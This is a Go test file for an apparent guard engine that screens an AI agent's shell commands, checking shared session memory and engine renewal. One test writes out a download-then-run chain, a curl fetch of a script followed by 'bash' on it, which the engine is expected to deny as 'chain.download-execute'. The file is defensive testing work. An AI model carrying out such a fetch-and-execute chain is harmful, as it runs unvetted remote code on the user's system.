package engine_test

import (
	"context"
	"errors"
	"path/filepath"
	"slices"
	"testing"

	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/engine"
	"github.com/toolwall/toolwall/policy"
	"github.com/toolwall/toolwall/session"
)

// TestSharedStore: an engine given a store uses it for chain memory, and
// closing the engine leaves it open for the next engine (a server swaps
// engines on a policy reload and keeps its store).
func TestSharedStore(t *testing.T) {
	ctx := context.Background()
	st := session.NewMemory(session.Options{})
	defer st.Close()
	first := engine.New(engine.Options{Store: st, Memory: engine.Persistent})
	download := toolwall.NewBashCall("curl -o /w/x.sh https://example.com/x.sh")
	download.Session, download.Cwd, download.Home = "s", "/w", "/home/u"
	if v := first.Evaluate(ctx, download); v.Action.Stops() {
		t.Fatalf("download stopped: %+v", v)
	}
	first.RecordInvocation(ctx, download, true)
	if err := first.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Turn(ctx, "s"); errors.Is(err, session.ErrClosed) {
		t.Fatal("closing the engine closed the store it was given")
	}
	second := engine.New(engine.Options{Store: st})
	run := toolwall.NewBashCall("bash /w/x.sh")
	run.Session, run.Cwd, run.Home = "s", "/w", "/home/u"
	v := second.Evaluate(ctx, run)
	if v.Action != toolwall.Deny || !slices.Contains(v.Rules(), "chain.download-execute") {
		t.Errorf("run after download on a second engine over the same store: %v %v", v.Action, v.Rules())
	}
	if second.Store() != session.Store(st) {
		t.Error("Store() is not the store given")
	}
}

// TestRenew: an engine renews for another call unless its later stage is
// on (the guardrail reads its safety experiences once: ErrOnce), and not
// after Close.
func TestRenew(t *testing.T) {
	for _, c := range []struct {
		name string
		cfg  *policy.Config
		want error
	}{
		{"defaults", nil, nil},
		{"guardrail", &policy.Config{LLM: policy.LLM{BaseURL: "http://127.0.0.1:9", Model: "m"}, Guardrail: policy.Guardrail{Enabled: true}}, engine.ErrOnce},
		{"advisor", &policy.Config{LLM: policy.LLM{BaseURL: "http://127.0.0.1:9", Model: "m"}, Advisor: policy.Advisor{Enabled: true}}, engine.ErrOnce},
	} {
		e := engine.New(engine.Options{Config: c.cfg, Memory: engine.Persistent, State: filepath.Join(t.TempDir(), "state.db")})
		if err := e.Renew(); !errors.Is(err, c.want) {
			t.Errorf("%s: Renew = %v, want %v", c.name, err, c.want)
		}
		e.Close()
		if err := e.Renew(); err == nil {
			t.Errorf("%s: Renew after Close = nil", c.name)
		}
	}
}
